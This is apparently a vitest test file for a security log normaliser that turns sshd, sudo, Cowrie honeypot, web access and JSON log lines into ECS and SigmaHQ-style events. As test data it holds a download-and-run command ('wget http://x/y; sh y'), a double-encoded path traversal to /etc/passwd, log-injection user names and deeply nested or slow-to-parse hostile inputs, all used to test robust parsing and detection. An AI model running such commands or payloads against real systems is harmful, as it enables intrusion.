import fc from "fast-check";
import { describe, expect, test } from "vitest";
import type { LogFormat } from "@tyr/contract";
import { LOG_FORMATS } from "@tyr/contract";
import type { NormalisedEvent } from "../event.ts";
import { decodedUrl } from "./web-aliases.ts";
import { detectFormat, normalise, type NormaliseOptions } from "./index.ts";

const NOW = new Date("2026-11-22T00:00:00Z");

function options(more: Partial<NormaliseOptions> = {}): NormaliseOptions {
  return { format: "auto", sensorKind: "ssh", now: NOW, ...more };
}
function read(line: string, more: Partial<NormaliseOptions> = {}): NormalisedEvent {
  const normalised = normalise(line, options(more));
  if (!normalised.ok) throw new Error(`rejected: ${normalised.reason}`);
  return normalised.event;
}
const sshd = (message: string): NormalisedEvent =>
  read(`Mar 29 14:16:10 ip-10-77-20-248 sshd[2477]: ${message}`, { year: 2017 });

describe("OpenSSH lines", () => {
  test("a failed password is one failed login of a user from an address", () => {
    const event = sshd("Failed password for root from 24.151.103.17 port 64554 ssh2");
    expect(event).toMatchObject({
      time: new Date("2017-03-29T14:16:10Z"),
      kind: "auth_attempt",
      action: "ssh.login",
      outcome: "failure",
      src: { ip: "24.151.103.17", port: 64554 },
      user: "root",
      logsource: { product: "linux", category: "authentication", service: "sshd" },
      ecs: { "auth.method": "password", "source.ip": "24.151.103.17", "user.name": "root", "process.pid": 2477 },
    });
    expect(event.ecs).not.toHaveProperty("auth.user_known");
  });

  test("an accepted password and an accepted key are successful logins", () => {
    expect(sshd("Accepted password for elastic_user_8 from 24.151.103.17 port 64554 ssh2")).toMatchObject({
      outcome: "success",
      user: "elastic_user_8",
    });
    const key =
      "Accepted publickey for ubuntu from 85.245.107.41 port 51816 ssh2: RSA SHA256:Kl8kPGZrTiz7g4FO1hyqHdsSBBb5";
    expect(sshd(key)).toMatchObject({ outcome: "success", user: "ubuntu", ecs: { "auth.method": "publickey" } });
  });

  test("an unknown user is said to be unknown, also when its name is empty", () => {
    expect(sshd("Failed password for invalid user oracle from 49.4.143.105 port 46508 ssh2")).toMatchObject({
      user: "oracle",
      ecs: { "auth.user_known": false },
    });
    const nameless = sshd("Failed password for invalid user  from 49.4.143.105 port 46508 ssh2");
    expect(nameless).toMatchObject({ user: null, src: { ip: "49.4.143.105" }, outcome: "failure" });
  });

  test("a user name that imitates the rest of the line does not put the blame on another address", () => {
    const name = "root from 192.0.2.1 port 22 ssh2";
    expect(sshd(`Failed password for invalid user ${name} from 203.0.113.9 port 4711 ssh2`)).toMatchObject({
      src: { ip: "203.0.113.9", port: 4711 },
      user: name,
    });
    expect(sshd(`Invalid user ${name} from 203.0.113.9 port 4711`)).toMatchObject({
      src: { ip: "203.0.113.9" },
      user: name,
    });
    expect(sshd(`Connection closed by invalid user ${name} 203.0.113.9 port 4711 [preauth]`)).toMatchObject({
      src: { ip: "203.0.113.9" },
    });
    const key =
      "Accepted publickey for ubuntu from 203.0.113.9 port 4711 ssh2: RSA-CERT ID a from 192.0.2.1 port 1 ssh2 (serial 0)";
    expect(sshd(key)).toMatchObject({ src: { ip: "203.0.113.9", port: 4711 }, user: "ubuntu" });
  });

  test("a repeated message is one event that says how often", () => {
    const event = sshd("message repeated 5 times: [ Failed password for root from 24.151.103.17 port 64554 ssh2]");
    expect(event).toMatchObject({ action: "ssh.login", outcome: "failure", user: "root", ecs: { "event.count": 5 } });
  });

  test("a repeated message that claims more than it can is bounded, and one that says nothing is once", () => {
    const repeated = (times: string) =>
      sshd(`message repeated ${times} times: [ Failed password for root from 24.151.103.17 port 64554 ssh2]`);
    expect(repeated("999999").ecs["event.count"]).toBe(100_000);
    expect(repeated("0").ecs["event.count"]).toBeUndefined();
    expect(repeated("1").ecs["event.count"]).toBeUndefined();
  });

  test.each([
    ["Invalid user admin from 177.229.3.3", "ssh.invalid_user", "177.229.3.3", "admin"],
    ["input_userauth_request: invalid user admin [preauth]", "ssh.auth_request", undefined, "admin"],
    [
      "error: maximum authentication attempts exceeded for root from 122.163.61.218 port 55467 ssh2 [preauth]",
      "ssh.max_attempts",
      "122.163.61.218",
      "root",
    ],
    [
      "error: maximum authentication attempts exceeded for invalid user admin from 1.2.3.4 port 5 ssh2 [preauth]",
      "ssh.max_attempts",
      "1.2.3.4",
      "admin",
    ],
    ["Disconnecting: Too many authentication failures [preauth]", "ssh.max_attempts", undefined, null],
    ["Connection closed by 61.183.117.250 port 40112 [preauth]", "ssh.disconnect", "61.183.117.250", null],
    ["Connection reset by 61.183.117.250 port 40112 [preauth]", "ssh.disconnect", "61.183.117.250", null],
    [
      "Connection closed by authenticating user root 61.183.117.250 port 40112 [preauth]",
      "ssh.disconnect",
      "61.183.117.250",
      "root",
    ],
    [
      "Received disconnect from 61.183.117.250 port 40112:11: Bye Bye [preauth]",
      "ssh.disconnect",
      "61.183.117.250",
      null,
    ],
    ["Received disconnect from 61.183.117.250: 11: Bye Bye [preauth]", "ssh.disconnect", "61.183.117.250", null],
    ["Disconnected from user ubuntu 85.245.107.41 port 51816", "ssh.disconnect", "85.245.107.41", "ubuntu"],
    ["Did not receive identification string from 209.160.24.191", "ssh.no_identification", "209.160.24.191", null],
    [
      "Bad protocol version identification 'GET / HTTP/1.1' from 186.219.213.14 port 59547",
      "ssh.bad_protocol",
      "186.219.213.14",
      null,
    ],
    ["Connection from 85.245.107.41 port 61663 on 10.77.20.248 port 222", "ssh.connect", "85.245.107.41", null],
    [
      "fatal: Unable to negotiate with 116.7.243.198 port 21303: no matching key exchange method found.",
      "ssh.negotiation_failed",
      "116.7.243.198",
      null,
    ],
    ["pam_unix(sshd:session): session opened for user ubuntu by (uid=0)", "ssh.session_open", undefined, "ubuntu"],
    [
      "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=24.151.103.17  user=root",
      "ssh.auth_failure",
      "24.151.103.17",
      "root",
    ],
    [
      "Starting session: shell on pts/0 for ubuntu from 85.245.107.41 port 61663 id 0",
      "ssh.session_open",
      "85.245.107.41",
      "ubuntu",
    ],
    ["Server listening on 0.0.0.0 port 22.", "log.sshd", undefined, null],
  ])("%s → %s", (message, ...expected) => {
    const event = sshd(message);
    expect([event.action, event.src?.ip, event.user]).toEqual(expected);
  });

  test("PAM's summary counts the failures it stands for, beside the attempts sshd logs itself", () => {
    const message =
      "PAM 5 more authentication failures; logname= uid=0 euid=0 tty=ssh ruser= rhost=24.151.103.17  user=root";
    expect(sshd(message)).toMatchObject({ action: "ssh.auth_failure", ecs: { "event.count": 5 }, user: "root" });
  });

  test("an IPv4-mapped address is the IPv4 address it means", () => {
    expect(sshd("Failed password for root from ::ffff:203.0.113.9 port 22 ssh2").src?.ip).toBe("203.0.113.9");
    expect(sshd("Failed password for root from 2001:DB8:0:0::1 port 22 ssh2").src?.ip).toBe("2001:db8::1");
  });

  test("a host name instead of an address leaves the source empty and the name in the fields", () => {
    const event = sshd("Failed password for root from evil.example.net port 22 ssh2");
    expect([event.src, event.fields["rhost"]]).toEqual([null, "evil.example.net"]);
  });
});

describe("times of syslog lines", () => {
  const line = (head: string): string => `${head} host sshd[1]: Server listening on :: port 22.`;

  test("without a year are of the latest year that is not in the future, and say so", () => {
    const past = read(line("Nov 21 23:59:59"));
    expect([past.time.toISOString(), past.timeOrigin, past.ecs["tyr.time"]]).toEqual([
      "2026-11-21T23:59:59.000Z",
      "assumed_year",
      "assumed_year",
    ]);
    expect(read(line("Dec  1 00:00:00")).time.toISOString()).toBe("2025-12-01T00:00:00.000Z");
    expect(read(line("Feb 29 12:00:00")).time.toISOString()).toBe("2024-02-29T12:00:00.000Z");
  });

  test("of a host ahead of UTC stay in this year", () => {
    const justNow = normalise(line("Jan  1 09:00:00"), options({ now: new Date("2025-12-31T19:00:00Z") }));
    expect(justNow.ok && justNow.event.time.toISOString()).toBe("2026-01-01T09:00:00.000Z");
  });

  test("use the year given with the import", () => {
    const event = read(line("Mar 27 13:06:56"), { year: 2017 });
    expect([event.time.toISOString(), event.timeOrigin]).toEqual(["2017-03-27T13:06:56.000Z", "source"]);
  });

  test("are read from RFC 5424 and ISO heads too, with byte order mark and structured data", () => {
    const message = "Failed password for root from 203.0.113.9 port 22 ssh2";
    const iso = read(`2026-02-01T14:17:31.627703+01:00 host sshd[7]: ${message}`);
    expect([iso.time.toISOString(), iso.user, iso.ecs["process.pid"]]).toEqual(["2026-02-01T13:17:31.627Z", "root", 7]);
    const frame = read(`<38>1 2026-02-01T14:17:31.627Z host sshd 7 - [a@1 x="\\"] y"][b@1] \uFEFF${message}`);
    expect([frame.action, frame.user, frame.ecs["host.name"]]).toEqual(["ssh.login", "root", "host"]);
    expect(read(`<38>Feb  1 14:17:31 host sshd[7]: ${message}`).user).toBe("root");
  });

  test("that do not exist put the line into quarantine", () => {
    expect(normalise(line("Feb 30 00:00:00"), options())).toMatchObject({ ok: false });
    expect(normalise(line("Feb 29 00:00:00"), options({ year: 2025 }))).toMatchObject({ ok: false });
  });
});

describe("other programs of auth.log", () => {
  test("a sudo command is a command with its directory and target user", () => {
    const line =
      "Mar 27 13:10:00 h sudo:   ubuntu : TTY=pts/0 ; PWD=/home/ubuntu ; USER=root ; COMMAND=/usr/bin/vim /etc/ssh/sshd_config";
    expect(read(line, { year: 2017 })).toMatchObject({
      kind: "command",
      action: "sudo.command",
      outcome: "success",
      user: "ubuntu",
      logsource: { product: "linux", category: "command", service: "sudo" },
      ecs: {
        CommandLine: "/usr/bin/vim /etc/ssh/sshd_config",
        "process.working_directory": "/home/ubuntu",
        "user.target.name": "root",
      },
    });
  });

  test("a refused sudo is a failure", () => {
    const line = "Mar 27 13:10:00 h sudo: eve : user NOT in sudoers ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/sh";
    expect(read(line)).toMatchObject({ outcome: "failure", user: "eve" });
  });

  test("a new account is an identity event", () => {
    const line =
      "Mar 29 10:00:00 h useradd[4711]: new user: name=mallory, UID=1001, GID=1001, home=/home/mallory, shell=/bin/bash";
    expect(read(line)).toMatchObject({ kind: "identity", action: "user.add", ecs: { "user.target.name": "mallory" } });
  });

  test("cron and anything else is kept as a plain log line", () => {
    const event = read("Mar 29 10:00:00 h CRON[1]: pam_unix(cron:session): session opened for user root by (uid=0)");
    expect([event.kind, event.action, event.logsource.service]).toEqual(["log", "log.cron", "cron"]);
  });
});

describe("Cowrie lines", () => {
  const head = {
    src_ip: "41.77.145.22",
    src_port: 30296,
    dst_ip: "172.17.0.2",
    dst_port: 22,
    session: "4c0f5b6349ec",
    protocol: "ssh",
    sensor: "db-backup-01",
    timestamp: "2026-02-01T14:17:38.215410Z",
  };
  const cowrie = (fields: Record<string, unknown>): NormalisedEvent => read(JSON.stringify({ ...head, ...fields }));

  test("a login keeps its password in the fields and masks it in what rules read", () => {
    const event = cowrie({
      eventid: "cowrie.login.success",
      username: "root",
      password: "toor",
      message: "login attempt",
    });
    expect(event).toMatchObject({
      kind: "auth_attempt",
      action: "ssh.login",
      outcome: "success",
      user: "root",
      session: "4c0f5b6349ec",
      fields: { password: "toor" },
      fieldsInRaw: true,
    });
    expect(event.ecs["user.password"]).toBe("***");
    expect(JSON.stringify(event.ecs)).not.toContain("toor");
  });

  test("a command can be read by SigmaHQ's names", () => {
    const event = cowrie({ eventid: "cowrie.command.input", input: "wget http://x/y; sh y" });
    expect(event).toMatchObject({
      kind: "command",
      action: "shell.command",
      logsource: { product: "cowrie", category: "command", service: "shell" },
      ecs: { CommandLine: "wget http://x/y; sh y" },
    });
  });

  test.each([
    ["cowrie.session.connect", "session", "ssh.connect"],
    ["cowrie.session.closed", "session", "ssh.disconnect"],
    ["cowrie.client.kex", "session", "ssh.client_kex"],
    ["cowrie.session.file_download", "payload", "file.download"],
    ["cowrie.direct-tcpip.request", "network", "ssh.forward"],
    ["cowrie.log.closed", "log", "session.recorded"],
    ["cowrie.something.new", "log", "cowrie.something.new"],
    ["cowrie.__proto__", "log", "cowrie.__proto__"],
  ])("%s is %s %s", (eventid, kind, action) => {
    const event = cowrie({ eventid, hassh: "ec7378c1a92f5a8dde7e8b7a1ddf33d1" });
    expect([event.kind, event.action]).toEqual([kind, action]);
  });

  test("telnet sessions are told from ssh", () => {
    expect(cowrie({ eventid: "cowrie.login.failed", protocol: "telnet" })).toMatchObject({
      action: "telnet.login",
      logsource: { service: "telnet" },
    });
  });
});

describe("access log lines", () => {
  const web = (line: string, more: Partial<NormaliseOptions> = {}): NormalisedEvent =>
    read(line, { sensorKind: "web", ...more });
  const combined = (request: string, status = "200"): string =>
    `83.149.9.216 - - [17/May/2015:10:05:03 +0200] "${request}" ${status} 203023 "http://semicomplete.com/" "Mozilla/5.0 (X11)"`;

  test("a combined line has aliases for ECS and for SigmaHQ's web rules", () => {
    expect(web(combined("GET /a/b.php?id=1%27 HTTP/1.1", "404"))).toMatchObject({
      time: new Date("2015-05-17T08:05:03Z"),
      kind: "http_request",
      action: "web.request",
      outcome: "failure",
      src: { ip: "83.149.9.216", port: null },
      logsource: { category: "webserver", service: "access" },
      ecs: {
        "url.original": "/a/b.php?id=1%27",
        "url.path": "/a/b.php",
        "url.query": "id=1%27",
        "url.decoded": "/a/b.php?id=1'",
        "http.response.status_code": 404,
        "cs-uri-stem": "/a/b.php",
        "cs-uri-query": "id=1%27",
        "cs-method": "GET",
        "sc-status": 404,
        "user_agent.original": "Mozilla/5.0 (X11)",
        "c-ip": "83.149.9.216",
      },
    });
  });

  test("a common line and a dash are enough", () => {
    const event = web(`2001:db8::1 - - [17/May/2015:10:05:03 +0000] "-" 408 -`);
    expect([event.action, event.src?.ip, event.ecs["url.original"]]).toEqual([
      "web.malformed_request",
      "2001:db8::1",
      undefined,
    ]);
  });

  test("a request that is not HTTP is kept whole and called malformed", () => {
    const event = web(combined(String.raw`\x16\x03\x01\x02\x00`, "400"));
    expect([event.action, event.ecs["url.original"]]).toEqual([
      "web.malformed_request",
      String.raw`\x16\x03\x01\x02\x00`,
    ]);
  });

  test("a quote in the request or the agent does not end it", () => {
    const event = web(`1.2.3.4 - - [17/May/2015:10:05:03 +0000] "GET /\\"x HTTP/1.1" 200 1 "-" "a\\"b"`);
    expect([event.ecs["url.original"], event.ecs["user_agent.original"], event.ecs["http.request.referrer"]]).toEqual([
      '/\\"x',
      'a\\"b',
      undefined,
    ]);
  });

  test("a user name that imitates a line does not replace the real request", () => {
    const forged = String.raw`eve [01/Jan/2020:00:00:00 +0000] \"GET /forged HTTP/1.1\" 200 1`;
    const event = web(`1.2.3.4 - ${forged} [17/May/2015:10:05:03 +0000] "GET /real HTTP/1.1" 401 1 "-" "x"`);
    expect([event.ecs["url.path"], event.user]).toEqual(["/real", forged]);
  });

  test.each([
    ["nginx", "nginx.access"],
    ["Nginx", "nginx.access"],
    ["httpd", "apache.access"],
    ["lighttpd", "web.access"],
    [undefined, "web.access"],
  ])("the server is what the sensor says it is, else unknown: %s", (product, dataset) => {
    expect(web(combined("GET / HTTP/1.1"), { product }).ecs["event.dataset"]).toBe(dataset);
  });

  test("double encoding is undone, endless encoding is not followed", () => {
    expect(decodedUrl("/..%252f..%252fetc/passwd")).toBe("/../../etc/passwd");
    expect(decodedUrl("/%")).toBe("/%");
    expect(decodedUrl(`/%${"25".repeat(50)}41`).length).toBeGreaterThan(1);
  });
});

describe("generic JSON", () => {
  test("the honeypot events of older senders keep working", () => {
    const line = JSON.stringify({
      source_ip: "203.0.113.7",
      event_type: "auth_attempt",
      payload: { username: "root", password: "123456" },
      timestamp: 1_770_000_000,
    });
    const event = read(line);
    expect(event).toMatchObject({
      kind: "auth_attempt",
      action: "auth_attempt",
      user: "root",
      src: { ip: "203.0.113.7" },
      time: new Date(1_770_000_000_000),
      logsource: { category: "authentication" },
    });
    expect(event.ecs["user.password"]).toBe("***");
  });

  test("nested ECS and dotted ECS are the same", () => {
    const nested = read(
      `{"@timestamp":"2026-02-01T00:00:00Z","source":{"ip":"203.0.113.7","port":1},"user":{"name":"a"},"event":{"action":"x","outcome":"failure","id":"7"}}`,
    );
    const dotted = read(
      `{"@timestamp":"2026-02-01T00:00:00Z","source.ip":"203.0.113.7","source.port":1,"user.name":"a","event.action":"x","event.outcome":"failure","event.id":"7"}`,
    );
    expect(nested.ecs).toEqual(dotted.ecs);
    expect([nested.sourceId, nested.outcome, nested.src]).toEqual(["7", "failure", { ip: "203.0.113.7", port: 1 }]);
  });

  test("an event without a time gets ours and says so", () => {
    const event = read(`{"source_ip":"203.0.113.7","event_type":"connection"}`);
    expect([event.time, event.timeOrigin, event.ecs["tyr.time"]]).toEqual([NOW, "observed", "observed"]);
  });

  test("a time that is no time is refused rather than replaced", () => {
    expect(normalise(`{"timestamp":"yesterday"}`, options())).toMatchObject({
      ok: false,
      reason: expect.stringContaining("time"),
    });
  });

  test.each(["[1]", "7", "{", `{"a":`, "", "hello"])("%j is refused with a reason", (line) => {
    expect(normalise(line, options())).toMatchObject({ ok: false });
  });

  test("JSON that is nested to break its readers is refused", () => {
    const bomb = `{"a":${"[".repeat(20_000)}${"]".repeat(20_000)}}`;
    expect(normalise(bomb, options())).toMatchObject({ ok: false, reason: "JSON nested deeper than 64 levels" });
  });
});

describe("any input", () => {
  const pieces = fc.constantFrom(
    "Failed password for ",
    "invalid user ",
    " from ",
    " port 22",
    " ssh2",
    "1.2.3.4",
    "::1",
    '"',
    "\\",
    "[",
    "]",
    "GET / HTTP/1.1",
    "[17/May/2015:10:05:03 +0000]",
    "Mar 29 14:16:10 h sshd[1]: ",
    "message repeated 2 times: [ ",
    "{",
    "}",
    ":",
    '"eventid":"cowrie.login.failed"',
    "\u0000",
    "\ud800",
    "%00",
    " ",
  );
  const line = fc.oneof(
    fc.string({ unit: "binary" }),
    fc.json(),
    fc.array(pieces).map((parts) => parts.join("")),
  );
  const format = fc.constantFrom<LogFormat>(...LOG_FORMATS);

  test("becomes an event or a refusal with a reason; nothing throws, everything fits the columns", () => {
    fc.assert(
      fc.property(line, format, (text, chosen) => {
        const answer = normalise(text, options({ format: chosen }));
        const { time, raw, user, ecs } = answer.ok ? answer.event : { time: NOW, raw: text, user: null, ecs: {} };
        expect(answer.ok || answer.reason !== "").toBe(true);
        expect(raw).toBe(text);
        expect(Number.isFinite(time.getTime())).toBe(true);
        expect((user ?? "").length).toBeLessThanOrEqual(256);
        expect(Object.values(ecs).every((value) => value !== undefined)).toBe(true);
      }),
      { numRuns: 3000 },
    );
  });

  test("takes time in proportion to its length: no line can hold up the rest", () => {
    const hostile = [
      `Mar 29 14:16:10 h sshd[1]: Failed password for invalid user ${" from 1.2.3.4 port 1".repeat(3000)}`,
      `Mar 29 14:16:10 h sshd[1]: Connection closed by invalid user ${"a ".repeat(30_000)}`,
      `1.2.3.4 - ${"[17/May/2015:10:05:03 +0000] ".repeat(2000)}`,
      `1.2.3.4 - - [17/May/2015:10:05:03 +0000] "${'\\"'.repeat(30_000)}`,
      `<1>1 2026-01-01T00:00:00Z h a b c ${"[a ".repeat(20_000)}`,
      `Mar 29 14:16:10 h sudo: ${"a : ; TTY=".repeat(6000)}`,
      `{"url":"/${"%25".repeat(20_000)}","method":"GET"}`,
    ];
    for (const text of hostile) {
      const begun = performance.now();
      normalise(text.slice(0, 65_536), options());
      expect(performance.now() - begun).toBeLessThan(250);
    }
  });

  test("formats are told apart line by line", () => {
    expect(
      [
        "{}",
        "Mar 29 14:16:10 h x: y",
        "2026-01-01T00:00:00Z h x: y",
        `1.2.3.4 - - [17/May/2015:10:05:03 +0000] "x" 200 1`,
        "?",
      ].map(detectFormat),
    ).toEqual(["json", "sshd", "sshd", "access", undefined]);
  });
});
